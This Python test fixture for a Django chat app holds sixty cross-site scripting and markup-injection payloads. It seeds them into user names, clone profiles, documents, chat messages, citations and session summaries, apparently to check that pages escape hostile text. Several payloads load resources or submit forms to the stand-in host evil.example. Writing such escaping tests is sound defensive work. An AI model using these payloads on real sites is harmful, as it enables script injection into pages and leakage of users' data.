"""Sixty texts that would run a script, lead astray or call another host if a page took them for markup.

A script that runs calls `pwned()`, which a test exposes; every other host is `evil.example`.
"""

import json

PAYLOADS = [
    "<script>pwned()</script>",
    "<script src=https://evil.example/a.js></script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "</script><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</template><img src=x onerror=pwned()>",
    "--><img src=x onerror=pwned()>",
    "<!--<img src=x onerror=pwned()>-->",
    "<img src=x onerror=pwned()>",
    "<img src='https://evil.example/pixel.png'>",
    "<IMG SRC=x ONERROR=&#112;&#119;&#110;&#101;&#100;()>",
    "<img/src=x/onerror=pwned()//",
    '"><img src=x onerror=pwned()>',
    "'><img src=x onerror=pwned()>",
    '" autofocus onfocus=pwned() x="',
    "' onmouseover='pwned()' x='",
    '" style="background:url(https://evil.example/s)" x="',
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
    "<svg><animate onbegin=pwned() attributeName=x>",
    "<math><mtext></p><style><img src=x onerror=pwned()>",
    "<math href=javascript:pwned()>x</math>",
    "<body onload=pwned()>",
    "<details open ontoggle=pwned()>",
    "<video src=x onerror=pwned()>",
    "<audio src=https://evil.example/a.mp3 autoplay>",
    "<input autofocus onfocus=pwned()>",
    "<select autofocus onfocus=pwned()>",
    "<marquee onstart=pwned()>x</marquee>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<object data=javascript:pwned()></object>",
    "<embed src=https://evil.example/e.swf>",
    "<link rel=stylesheet href=https://evil.example/s.css>",
    "<style>@import 'https://evil.example/s.css'; body{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<a href=javascript:pwned()>x</a>",
    "<a href='java\tscript:pwned()'>x</a>",
    "<a href=data:text/html,<script>pwned()</script>>x</a>",
    "[x](javascript:pwned())",
    "[x](JaVaScRiPt:pwned())",
    "[x](java&#x09;script:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](javascript&colon;pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    "![x](https://evil.example/pixel.png)",
    '[x](https://ok.example "onmouseover=pwned()")',
    "<javascript:pwned()>",
    "`</code><img src=x onerror=pwned()>`",
    "| <img src=x onerror=pwned()> |\n|---|\n| [a](javascript:pwned()) |",
    "[1](javascript:pwned()) [2]: javascript:pwned()",
    "{{7*7}}{% debug %}${pwned()}`${pwned()}`",
    "javascript:pwned()",
    "\u202e<img src=x onerror=pwned()>\u0000\ue0001",
]

CODE = (
    f"PAYLOADS = {json.dumps(PAYLOADS)}"
    + """
import json
from django.utils import timezone
from chat.models import ChatSession, Citation, GapQuestion, KnowledgeGap, Message, SessionSummary
from cloneai.accounts.models import User
from clones.models import Clone
from knowledge.models import Document

PAYLOADS = [payload.replace(chr(0), "") for payload in PAYLOADS]
member, expert = (User.objects.get(email=f"{name}@example.com") for name in ("member", "expert"))
member.name = PAYLOADS[10]
member.save()
clones = Clone.objects.bulk_create(
    Clone(owner=expert, slug=f"hostile-{n}", name=text[:80], headline=text[:160], bio=" ".join([text, *PAYLOADS]),
          greeting=text, expertise_areas=[text[:60]], starter_questions=[text[:200]], visibility="public",
          no_answer_text=text)
    for n, text in enumerate(PAYLOADS)
)
Document.objects.bulk_create(
    Document(clone=clones[0], title=text[:200], file_name=text[:200].replace("/", "-"), kind="txt", sha256=f"{n:064}",
             size_bytes=1, status="failed", error_code="empty", error_message=text)
    for n, text in enumerate(PAYLOADS)
)
session = ChatSession.objects.create(clone=clones[10], user=member, title=PAYLOADS[10][:120])
ChatSession.objects.bulk_create(ChatSession(clone=clone, user=member, title=clone.name) for clone in clones)
sources = []
for text in PAYLOADS:
    asked = Message.objects.create(session=session, role="user", content=text, created_at=timezone.now())
    answer = Message.objects.create(
        session=session, role="assistant", content=text + " [1]", reply_to=asked, created_at=timezone.now(),
        error_message=text, rating=-1, rating_comment=text,
    )
    sources.append(Citation.objects.create(
        message=answer, number=1, title=text[:200], page=1, quote=text + " ".join(PAYLOADS), start_char=0,
        end_char=len(text),
        similarity_score=0.5,
    ))
gap = KnowledgeGap.objects.create(clone=clones[10])
GapQuestion.objects.create(gap=gap, message=answer, asked_by=answer.session.user, question=" ".join(PAYLOADS))
ended = ChatSession.objects.create(clone=clones[11], user=member, title=PAYLOADS[0][:120], ended_at=timezone.now())
items = [{"description": text, "priority": text, "estimated_effort": text, "message_number": 1} for text in PAYLOADS]
for kind, data in (("detailed", dict(
    main_topics=PAYLOADS, key_insights=PAYLOADS, action_items=items, progress_made=PAYLOADS, next_steps=PAYLOADS,
    overall_assessment=" ".join(PAYLOADS),
)), ("brief", {})):
    summary = SessionSummary.objects.create(
        session=ended, summary_type=kind, status="ready", summary_text="\\n\\n".join(PAYLOADS), structured_data=data,
    )
print(json.dumps({
    "session": str(session.pk), "ended": str(ended.pk), "sources": [str(source.pk) for source in sources],
    "summaries": [str(pk) for pk in ended.summaries.values_list("pk", flat=True)],
}))
"""
)
